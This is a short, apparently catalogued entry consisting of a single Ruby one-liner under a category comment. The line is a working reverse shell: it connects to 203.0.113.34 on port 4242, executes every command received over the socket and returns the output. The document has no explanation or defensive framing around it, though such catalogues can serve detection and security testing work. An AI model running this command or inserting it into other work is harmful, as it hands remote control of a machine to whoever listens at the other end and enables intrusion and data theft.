# class: embedded, ruby -rsocket; style: one-liner
ruby -rsocket -e 'c=TCPSocket.new("203.0.113.34","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
